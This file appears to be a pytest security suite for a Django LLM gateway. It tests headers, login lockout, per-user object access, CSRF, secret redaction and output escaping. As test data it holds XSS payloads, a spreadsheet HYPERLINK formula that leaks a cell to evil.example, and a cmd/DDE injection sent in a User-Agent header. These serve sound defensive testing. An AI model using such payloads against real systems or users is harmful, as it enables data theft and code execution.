"""Security properties across the surfaces: headers, sign-in throttling, CSRF on every session
write, no read of another person's objects through any id-taking URL, and no token secret in any
log line, error body, audit row, stored batch or span of the real processes."""

import json
import re

import httpx
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from accounts.models import ApiToken
from accounts.services import membership_ensure, team_get_or_create, token_issue
from audit.models import AuditRecord
from gateway.models import ChatMessage, Completion, Conversation, OtlpBatch
from tests.conftest import MODEL
from tests.support import processes
from tests.support.pictures import PNG
from tests.support.waiting import wait_for

PASSWORD = "a long passphrase 42"
CHAT = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}]}


@pytest.fixture
def person(team, route, redis_client):
    user = get_user_model().objects.create_user("pat", password=PASSWORD)
    membership_ensure(team=team, user=user)
    return user


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path", ["/login/", "/healthz", "/api/v1/models", "/ollama/api/tags", "/v1/models", "/admin/"]
)
def test_every_answer_carries_the_security_headers(client, token, path):
    response = client.get(path, HTTP_AUTHORIZATION=f"Bearer {token}", follow=True)
    policy = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'"
    assert policy["style-src"] == "'self'" and policy["object-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'" and policy["form-action"] == "'self'"
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"


@pytest.mark.django_db
def test_password_guessing_is_throttled(person, settings):
    guesser = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        response = guesser.post("/login/", {"username": "pat", "password": "guess"})
        assert response.status_code == 200 and "do not match" in response.content.decode()
    response = guesser.post("/login/", {"username": "pat", "password": "guess"})
    assert response.status_code == 429
    # now even the right password is refused, at the admin's sign-in too
    response = guesser.post("/login/", {"username": "pat", "password": PASSWORD})
    assert response.status_code == 429 and "Too many attempts" in response.content.decode()
    assert "15 minutes" in response.content.decode()
    admin = Client().post("/admin/login/", {"username": "pat", "password": PASSWORD})
    assert admin.status_code == 429
    # someone else signing in from the same address is not locked out with them
    get_user_model().objects.create_user("sam", password=PASSWORD)
    assert Client().post("/login/", {"username": "sam", "password": PASSWORD}).status_code == 302


@pytest.mark.django_db
def test_a_successful_sign_in_resets_the_count(person, settings):
    browser = Client()
    for _ in range(2):
        for _ in range(settings.AXES_FAILURE_LIMIT - 1):
            browser.post("/login/", {"username": "pat", "password": "guess"})
        assert browser.post("/login/", {"username": "pat", "password": PASSWORD}).status_code == 302
        browser.logout()


@pytest.fixture
def owned(person, team, route):
    """One of each object a person owns, reached by id through some URL."""
    from gateway.conversations.services import conversation_create

    token, secret = token_issue(user=person, name="mine", team=team)
    api = Client(HTTP_AUTHORIZATION=f"Bearer {secret}")
    call = api.post("/api/v1/chat", CHAT, content_type="application/json").json()
    job = api.post("/api/v1/completions", CHAT, content_type="application/json").json()
    conversation = conversation_create(user=person, model=MODEL)
    asked = ChatMessage.objects.create(
        conversation=conversation, role="user", content="mine", images=[PNG]
    )
    return {
        "call_id": call["id"],
        "completion_id": job["id"],
        "token_id": str(token.pk),
        "conversation_id": str(conversation.pk),
        "message_id": str(asked.pk),
        "n": "0",
        "fmt": "json",  # not an object: the format a conversation is exported in
    }


def _patterns(resolver=None, prefix=""):
    for entry in (resolver or get_resolver()).url_patterns:
        route = prefix + str(entry.pattern).lstrip("^").rstrip("$")
        if isinstance(entry, URLResolver):
            if not route.startswith("admin/"):  # the admin is checked by its own tests
                yield from _patterns(entry, route)
        # (a model or a blob is not a person's object: who sees which model is the routing tests'
        # matter, who manages them the access table's)
        elif (
            isinstance(entry, URLPattern)
            and "<" in route
            and not any(key in route for key in ("<path:model>", "<str:digest>"))
        ):
            yield route


@pytest.mark.django_db
def test_no_url_shows_or_changes_another_persons_objects(owned, person, team):
    """Every URL that takes an id, asked by a member of the same team and by an outsider, with
    each method it answers: 404 (never the object, never a change)."""
    routes = sorted(set(_patterns()))
    colleague = get_user_model().objects.create_user("kim", password=PASSWORD)
    membership_ensure(team=team, user=colleague)
    outsider = get_user_model().objects.create_user("lee", password=PASSWORD)
    membership_ensure(team=team_get_or_create(slug="elsewhere"), user=outsider)
    # what the objects would show: the call's answer, the token's prefix
    shown = [
        AuditRecord.objects.get(id=owned["call_id"]).completion,
        ApiToken.objects.get(pk=owned["token_id"]).prefix,
    ]
    assert all(shown)
    checked = []
    for other in (colleague, outsider):
        _, secret = token_issue(user=other, name="theirs")
        for caller in (Client(HTTP_AUTHORIZATION=f"Bearer {secret}"), Client()):
            if caller.cookies == {} and "HTTP_AUTHORIZATION" not in caller.defaults:
                caller.force_login(other)
            for route in routes:
                path = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda m: owned[m.group(1)], route)
                for method in ("get", "post", "delete"):
                    response = getattr(caller, method)(path)
                    body = response.content.decode(errors="replace")
                    if response.status_code == 302:  # a web page, asked without a session
                        assert response.url.startswith("/login/"), (method, path)
                        continue
                    assert response.status_code in (401, 403, 404, 405), (method, path, body)
                    assert not any(value in body for value in shown), (method, path, body)
                    checked.append((method, path))
    assert {path for _, path in checked} >= {
        f"/api/v1/calls/{owned['call_id']}",
        f"/api/v1/completions/{owned['completion_id']}/cancel",
        f"/api/v1/tokens/{owned['token_id']}",
        f"/c/{owned['conversation_id']}/delete",
        f"/c/{owned['conversation_id']}/images/{owned['message_id']}/0",
    }
    # nothing was changed on the way
    assert ApiToken.objects.get(pk=owned["token_id"]).revoked_at is None
    assert Completion.objects.get(pk=owned["completion_id"]).status == Completion.Status.QUEUED
    assert Conversation.objects.filter(pk=owned["conversation_id"]).exists()


@pytest.mark.django_db
def test_every_session_write_needs_the_csrf_token(owned, person):
    """(The token and completion APIs take API tokens only: a session is refused there, 401;
    the web pages manage tokens with a session, checked here.)"""
    person.is_staff = person.is_superuser = True
    person.save()
    conversation = owned["conversation_id"]
    writes = [
        ("post", "/api/v1/chat", json.dumps(CHAT), "application/json"),
        ("post", "/c/new", f"model={MODEL}", "application/x-www-form-urlencoded"),
        (
            "post",
            f"/c/{conversation}/settings",
            f"model={MODEL}",
            "application/x-www-form-urlencoded",
        ),
        ("post", f"/c/{conversation}/rename", "title=x", "application/x-www-form-urlencoded"),
        ("post", "/tokens/", "name=x", "application/x-www-form-urlencoded"),
        ("post", "/admin/accounts/team/add/", "slug=x&name=x", "application/x-www-form-urlencoded"),
        ("post", f"/c/{conversation}/delete", "", "application/x-www-form-urlencoded"),
        ("post", "/logout/", "", "application/x-www-form-urlencoded"),
    ]
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(person)
    browser.get("/")
    csrf = browser.cookies["csrftoken"].value
    for method, path, body, content_type in writes:
        refused = getattr(browser, method)(path, body, content_type=content_type)
        assert refused.status_code == 403, (path, refused.status_code)
        accepted = getattr(browser, method)(
            path, body, content_type=content_type, HTTP_X_CSRFTOKEN=csrf
        )
        assert accepted.status_code != 403, (path, accepted.content[:300])
        assert accepted.status_code < 500


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_no_token_secret_in_logs_error_bodies_audit_rows_or_spans(
    otlp_receiver, route, token, tmp_path, ollama
):
    env = processes.corral_env(otlp_receiver.endpoint, CELERY_VISIBILITY_TIMEOUT="3")
    wrong = token[:-4] + "abcd"
    answers = []
    with processes.web(env, tmp_path) as base, processes.worker(env, tmp_path):
        for secret in (token, wrong):
            headers = {"Authorization": f"Bearer {secret}"}
            for path, body in (
                ("/api/v1/chat", CHAT),
                ("/api/v1/chat", {**CHAT, "stream": True}),
                ("/api/v1/chat", {**CHAT, "model": "missing"}),
                ("/api/v1/chat", {"model": MODEL, "messages": "not a list"}),
                ("/ollama/api/chat", {**CHAT, "stream": False}),
                ("/v1/chat/completions", CHAT),
                ("/api/v1/completions", CHAT),
                ("/api/v1/tokens", {"name": "made"}),
            ):
                answers.append(httpx.post(f"{base}{path}", json=body, headers=headers).text)
            answers.append(httpx.get(f"{base}/api/v1/calls", headers=headers).text)
            # clients that put the secret where it does not belong
            answers.append(httpx.get(f"{base}/api/v1/models?api_key={secret}").text)
            answers.append(httpx.get(f"{base}/api/v1/models", auth=("user", secret)).text)
        ollama.fail_next(500, "boom")
        failing = httpx.post(
            f"{base}/api/v1/chat", json=CHAT, headers={"Authorization": f"Bearer {token}"}
        )
        assert failing.status_code == 502
        answers.append(failing.text)
        assert wait_for(
            lambda: not Completion.objects.exclude(status__in=Completion.FINAL).exists(), 30
        )
        records = list(AuditRecord.objects.values())
        assert wait_for(lambda: len(otlp_receiver.find(lambda s: True, 0.1)) >= len(records), 15)
    logs = "\n".join(path.read_text() for path in tmp_path.glob("*.log"))
    rows = json.dumps(
        [records, list(Completion.objects.values()), list(OtlpBatch.objects.values())],
        default=str,
    )
    spans = json.dumps(
        [[s.name, s.attributes, s.events, s.resource] for s in otlp_receiver.spans], default=str
    )
    assert "Authorization" not in logs and len(answers) == 23
    assert len(records) >= 6, [(r["surface"], r["status"]) for r in records]
    for secret in (token, wrong):
        hidden = secret.split("_", 2)[2]  # what follows the public prefix
        for name, text in (("log", logs), ("answer", "\n".join(answers)), ("row", rows)):
            assert hidden not in text, f"a token secret is in a {name}"
        assert hidden not in spans, "a token secret is in a span"


@pytest.mark.django_db
def test_tokens_are_compared_in_constant_time(token, monkeypatch):
    """A wrong secret under a real prefix and an unknown prefix take the same path: one
    comparison of digests with hmac.compare_digest, never ==."""
    import hmac

    from accounts import authentication
    from accounts.tokens import digest

    secrets = [token[:-4] + "abcd", "crl_unknown1_" + "x" * 40, token]
    compared = []
    real = hmac.compare_digest

    def spy(expected, given):
        if given in {digest(secret) for secret in secrets}:
            compared.append((len(expected), given))
        return real(expected, given)

    monkeypatch.setattr(authentication.hmac, "compare_digest", spy)
    for secret in secrets:
        Client(HTTP_AUTHORIZATION=f"Bearer {secret}").get("/api/v1/models")
    assert compared == [(64, digest(secret)) for secret in secrets]


@pytest.mark.django_db
def test_the_admin_shows_model_output_as_text(admin_client, api, route, ollama):
    ollama.reply = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2">'
    api.post("/api/v1/chat", CHAT, format="json")
    record = AuditRecord.objects.get()
    for path in ("/admin/audit/auditrecord/", f"/admin/audit/auditrecord/{record.id}/change/"):
        page = admin_client.get(path).content.decode()
        assert "<script>window.pwned" not in page and "<img src=x" not in page
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in page


@pytest.mark.django_db
def test_the_lockout_holds_behind_a_proxy_whatever_the_client_writes(person, settings):
    """Point 12: with X-Forwarded-For trusted, its leftmost (client-chosen) entry was taken as the
    address, so rotating it got past the lockout. Behind one proxy the client is the rightmost."""
    settings.CORRAL_TRUSTED_PROXIES = 1
    guesser = Client()
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        guesser.post(
            "/login/",
            {"username": "pat", "password": "guess"},
            HTTP_X_FORWARDED_FOR=f"198.51.100.{attempt}, 203.0.113.7",
        )
    response = guesser.post(
        "/login/",
        {"username": "pat", "password": PASSWORD},
        HTTP_X_FORWARDED_FOR="192.0.2.99, 203.0.113.7",
    )
    assert response.status_code == 429
    other = Client().post(
        "/login/",
        {"username": "pat", "password": PASSWORD},
        HTTP_X_FORWARDED_FOR="203.0.113.8",  # another client behind the same proxy
    )
    assert other.status_code == 302


@pytest.mark.django_db
def test_the_client_address_is_the_trusted_hop(settings, rf):
    from common.request_info import client_ip

    request = rf.get("/", HTTP_X_FORWARDED_FOR="6.6.6.6, 198.51.100.1, 10.0.0.2")
    request.META["REMOTE_ADDR"] = "10.0.0.3"
    settings.CORRAL_TRUSTED_PROXIES = 0
    assert client_ip(request) == "10.0.0.3"
    settings.CORRAL_TRUSTED_PROXIES = 2
    assert client_ip(request) == "198.51.100.1"
    settings.CORRAL_TRUSTED_PROXIES = 5  # fewer hops than proxies: someone is lying
    assert client_ip(request) == "10.0.0.3"


@pytest.mark.django_db
def test_csv_cells_never_run_as_formulas(admin_client, token, route, ollama):
    """Point 12: a user agent or an answer starting with = ran as a formula in a spreadsheet."""
    ollama.reply = '=HYPERLINK("http://evil.example/"&A1)'
    response = Client().post(
        "/api/v1/chat",
        CHAT,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
        HTTP_USER_AGENT="=cmd|' /C calc'!A0",
    )
    assert response.status_code == 200
    exported = admin_client.get("/admin/audit/auditrecord/export/csv/")
    text = b"".join(exported.streaming_content).decode()
    import csv
    import io

    row = next(csv.DictReader(io.StringIO(text)))
    assert row["user_agent"] == "'=cmd|' /C calc'!A0"
    assert row["completion"].startswith("'=HYPERLINK")
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


@pytest.mark.django_db(transaction=True)
def test_redaction_covers_user_agent_metadata_and_tool_calls(token, route, ollama, settings, spans):
    """Point 12: redaction covered content and answer, not the user agent, metadata or tool-call
    arguments (nor the server span's user agent)."""
    settings.CORRAL_REDACT_PATTERNS = [r"secret-\w+"]
    ollama.tool_call = {"function": {"name": "lookup", "arguments": {"q": "secret-answer"}}}
    body = {
        "model": MODEL,
        "metadata": {"ticket": "secret-meta"},
        "tools": [{"type": "function", "function": {"name": "lookup"}}],
        "messages": [
            {"role": "user", "content": "go"},
            {
                "role": "assistant",
                "content": "",
                "tool_calls": [{"function": {"name": "f", "arguments": {"k": "secret-asked"}}}],
            },
            {"role": "tool", "content": "done"},
            {"role": "user", "content": "look it up again"},
        ],
    }
    response = Client().post(
        "/api/v1/chat",
        body,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
        HTTP_USER_AGENT="agent secret-ua",
    )
    assert response.status_code == 200
    record = AuditRecord.objects.get()
    stored = json.dumps(
        [record.user_agent, record.metadata, record.messages, record.tool_calls], default=str
    )
    assert "secret-" not in stored and stored.count("[REDACTED]") == 4, stored
    call_span = spans.span_for_audit(str(record.id))
    server = spans.find(lambda s: s.span_id == call_span.parent_span_id)[0]
    assert "secret-" not in json.dumps(call_span.attributes)
    assert "secret-" not in json.dumps(server.attributes)
    assert "[REDACTED]" in json.dumps(server.attributes)
